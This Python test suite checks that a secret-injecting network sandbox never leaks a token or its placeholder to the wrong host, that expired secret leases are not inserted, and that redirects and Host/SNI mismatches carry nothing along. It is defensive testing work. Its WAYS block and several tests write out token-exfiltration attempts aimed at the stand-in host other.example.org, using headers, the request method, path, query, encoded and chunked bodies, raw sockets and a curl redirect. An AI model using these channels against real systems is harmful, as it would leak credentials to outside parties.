"""Secrets: whoever else is sent a placeholder gets nothing, and so does the right host when it is over."""
# needs: a network of its own
import json

from own_network import PLACES
from secrets_case import ALLOW, HOST, SECRET, SecretCase, python
from way_out_case import VALUE, has_any, shapes


class Stops(SecretCase):
    """The placeholder goes to its host in its place, or nowhere."""

    WAYS = """
other = sys.argv[1] if len(sys.argv) > 1 else "https://other.example.org"
b64 = base64.b64encode
def bare(line, *headers):  # urllib changes the case of names
    parts = urllib.parse.urlsplit(other)
    link = dial(parts.hostname, 443 if parts.scheme == "https" else 80, tls=parts.scheme == "https")
    link.sendall("\\r\\n".join([line, "Host: " + parts.hostname, *headers, "", ""]).encode())
    text = whole(link)
    return [int(text.split()[1]), {}, text]
ways = {
    "bearer": lambda how: ask(other + "/", {"Authorization": "Bearer " + token}, how=how),
    "basic": lambda how: ask(other + "/", {"Authorization": "Basic " + b64(("me:" + token).encode()).decode()}, how=how),
    "another header": lambda how: ask(other + "/", {"X-Any": "a" + token + "b"}, how=how),
    "header in base64": lambda how: ask(other + "/", {"X-Any": b64(b"zz" + token.encode()).decode()}, how=how),
    "header's name": lambda how: bare("GET / HTTP/1.1", "X-" + token + ": 1"),
    "method": lambda how: bare("G" + token + " / HTTP/1.1"),
    "path": lambda how: ask(other + "/a/" + token, how=how),
    "query": lambda how: ask(other + "/?q=" + token, how=how),
    "query in percents": lambda how: ask(other + "/?q=" + "".join("%%%02x" % ord(c) for c in token), how=how),
    "percents twice": lambda how: ask(other + "/?q=" + "".join("%%25%02X" % ord(c) for c in token), how=how),
    "body": lambda how: ask(other + "/", {}, ("x" * 70000 + token).encode(), how=how),
    "body in base64": lambda how: ask(other + "/", {}, b64(b"z" + token.encode()), how=how),
    "body in chunks": lambda how: ask(other + "/", {"Transfer-Encoding": "chunked"}, iter([c.encode() for c in token]), how=how),
    "form": lambda how: ask(other + "/", {}, urllib.parse.urlencode({"a": token}).encode(), how=how),
}
"""

    def assert_got_nothing(self, server, placeholder):
        for piece in [request.encode("latin-1") for request in server.seen] + server.pieces:
            for text in (placeholder, VALUE):
                self.assertFalse(has_any(piece, shapes(text)), piece)

    def test_X9_another_allowed_host_gets_neither(self):
        self.serve(HOST)
        other, plain = self.serve("other.example.org"), self.serve("other.example.org", 80)
        more = ["--allow-net", "other.example.org:443", "--allow-net", "other.example.org:80"]
        for url in ("https://other.example.org", "http://other.example.org"):
            for how in ("proxy", "direct"):
                with self.subTest(url=url, how=how):
                    said, report = self.guest(f"""
sys.argv[1:] = ["{url}"]
{self.WAYS}
print(json.dumps([token, ask(other + "/innocent", how="{how}")[0], {{name: way("{how}") for name, way in ways.items()}}]))
""", *more)
                    placeholder, innocent, answers = said
                    self.assertEqual(innocent, 200)
                    for name, (status, _, body) in answers.items():
                        # A server may have begun to read a body: then there is no room for a status any more.
                        self.assertIn(status, (403, 0) if "body" in name or name == "form" else (403,), (name, body))
                        self.assertTrue(status == 0 or "placeholder" in body, (name, body))
                    for server in (other, plain):
                        self.assert_got_nothing(server, placeholder)
                    self.assert_stopped(report)
        self.assertTrue(any("/innocent" in request for request in other.seen))

    def test_X9_names_that_are_nearly_the_hosts(self):
        self.serve(HOST)
        servers = [self.serve(name) for name in ("xapi.example.org", "api.example.org.example.net")]
        said, report = self.guest("""
auth = {"Authorization": "Bearer " + token}
print(json.dumps([token] + [ask("https://" + name + "/", auth) for name in ("xapi.example.org", "api.example.org.example.net")]))
""", "--allow-net", "*.example.org:443", "--allow-net", "*.example.net:443")
        for status, _, body in said[1:]:
            self.assertEqual(status, 403, body)
        for server in servers:
            self.assert_got_nothing(server, said[0])
        self.assert_stopped(report)

    def test_X9_the_same_host_spelt_otherwise_is_the_host_and_another_port_is_not(self):
        server, odd = self.serve(HOST), self.serve(HOST, 8443)
        said, report = self.guest("""
auth = {"Authorization": "Bearer " + token}
print(json.dumps([token] + [ask("https://" + name + "/", auth)[0] for name in ("API.Example.ORG", "api.example.org:8443")]))
""", "--allow-net", HOST + ":8443")
        self.assertEqual(said[1:], [200, 403])
        self.assertIn(VALUE, server.seen[0])
        self.assert_got_nothing(odd, said[0])
        self.assert_stopped(report)

    def test_X9_the_right_host_and_the_wrong_place(self):
        server = self.serve(HOST)
        said, report = self.guest(f"""
sys.argv[1:] = ["https://{HOST}"]
{self.WAYS}
del ways["bearer"]
print(json.dumps([token, {{name + how: way(how) for how in ("proxy", "direct") for name, way in ways.items()}}]))
""")
        for name, (status, _, body) in said[1].items():
            self.assertIn(status, (403, 0), (name, body))
        self.assert_got_nothing(server, said[0])
        self.assert_stopped(report)

    def test_X9_host_and_greeting_cannot_be_made_to_disagree(self):
        server, other = self.serve(HOST), self.serve("other.example.org")
        said, report = self.guest(r"""
request = "GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n"
def say(name, sni, host, first=""):
    try:
        link = dial(name, 443, sni=sni)
        link.sendall((first + request % host).encode())
        return whole(link)
    except OSError as error:
        return "error " + str(error)
keep = "GET /first HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
print(json.dumps([token, say("other.example.org", "other.example.org", "api.example.org"),
    say("other.example.org", "api.example.org", "api.example.org"),
    say("api.example.org", "other.example.org", "other.example.org"),
    say("api.example.org", "api.example.org", "other.example.org", keep),
    say("other.example.org", "other.example.org", "other.example.org", "GET https://api.example.org/x HTTP/1.1\r\nHost: api.example.org\r\n\r\n")]))
""", "--allow-net", "other.example.org:443")
        for answer in said[1:]:
            self.assertRegex(answer, r"^(HTTP/1.1 40[03] |error|$)|HTTP/1.1 403 ")
        self.assert_got_nothing(other, said[0])
        self.assertEqual([request.split("\n")[0] for request in server.seen], ["GET /first HTTP/1.1"])
        self.assertGreater(report["network"]["denied_total"], 0)

    def test_X9_a_redirection_takes_nothing_along(self):
        self.serve(HOST)
        other = self.serve("other.example.org")
        done, report, events = self.run_out(*ALLOW, "--allow-net", "other.example.org:443", *SECRET, "--", "sh", "-c",
                                            "echo $API_TOKEN; curl -sS -L --location-trusted -o /dev/null -w '%{http_code}' -H "
                                            f'"Authorization: Bearer $API_TOKEN" https://{HOST}/away')
        placeholder, code = done.stdout.decode().split("\n")
        self.assertEqual(code, "403", done.stderr)
        self.assertEqual(other.seen, [])
        self.assertNotIn(placeholder, str(other.seen))
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)

    def test_X9_an_address_gets_nothing_whatever_is_spoken(self):
        self.serve(HOST)
        plain = self.serve("other.example.org", 80)
        address = PLACES["other.example.org"]
        said, report = self.guest(f"""
head = "POST / HTTP/1.1\\r\\nHost: {address}\\r\\n"
def raw(*pieces):
    link = dial("{address}", 80, tls=False)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for piece in pieces: link.sendall(piece.encode())
    except OSError: pass
    return whole(link)
print(json.dumps([token, raw(head + "X: " + token + "\\r\\n\\r\\n"),
    raw(head, "Content-Length: ", str(len(token)), "\\r\\n\\r\\n", *token),
    raw(head, "Content-Length: 90000\\r\\n\\r\\n", "y" * 60000, token[:9], token[9:])]))
""", "--allow-net", address + ":80")
        self.assert_got_nothing(plain, said[0])
        self.assert_stopped(report)

    def test_X9_tls_to_an_address_is_not_looked_into_and_gets_no_value(self):
        servers = [self.serve(HOST), self.serve("other.example.org")]
        addresses = [PLACES[HOST], PLACES["other.example.org"]]
        said, _ = self.guest(f"""
context = ssl._create_unverified_context()
def tls(address, sni):
    link = context.wrap_socket(socket.create_connection((address, 443), timeout=20), server_hostname=sni)
    link.sendall(("GET /echo HTTP/1.1\\r\\nHost: {HOST}\\r\\nAuthorization: Bearer " + token + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
    return [ssl.DER_cert_to_PEM_cert(link.getpeercert(True)), whole(link)]
print(json.dumps([tls(address, sni) for address in {addresses} for sni in (None, "{HOST}")]))
""", *(word for address in addresses for word in ("--allow-net", address + ":443")))
        for at, (certificate, _) in enumerate(said):  # the server's own: nobody stands between
            with open(self.path((HOST, "other.example.org")[at // 2] + ".pem"), encoding="ascii") as file:
                self.assertEqual(certificate, file.read())
        for server in servers:
            self.assertEqual(len(server.seen), 2)
            self.assertFalse(has_any(str(server.seen).encode(), shapes(VALUE)))


class Leases(SecretCase):
    def test_X10_a_secret_that_is_over_is_not_put_in(self):
        server = self.serve(HOST)
        secret = ["--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,for=2s,env=REAL_TOKEN"]
        done, report, events = self.run_out(*ALLOW, *secret, *python("""
import time
auth = {"Authorization": "Bearer " + token}
answers = [ask("https://api.example.org/", auth)]
while answers[-1][0] in (200, 0) and len(answers) < 300:  # 0: closed while it was open
    time.sleep(0.1)
    answers.append(ask("https://api.example.org/", auth))
answers.append(ask("https://api.example.org/without"))
print(json.dumps([token, answers[0], answers[-2], answers[-1]]))
"""))
        placeholder, first, last, without = json.loads(done.stdout)
        self.assertEqual((first[0], last[0], without[0]), (200, 403, 200), last)
        self.assertIn("not granted", last[2])
        for request in server.seen:
            self.assertNotIn(placeholder, request)
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)

    def test_X10_a_secret_that_waits_is_not_put_in(self):
        server = self.serve(HOST)
        secret = ["--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,for=0s,env=REAL_TOKEN"]
        done, report, events = self.run_out(*ALLOW, *secret, *python(
            'print(json.dumps(ask("https://api.example.org/", {"Authorization": "Bearer " + token})))'))
        self.assertEqual(json.loads(done.stdout)[0], 403, done.stdout)
        self.assertEqual(server.seen, [])
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)
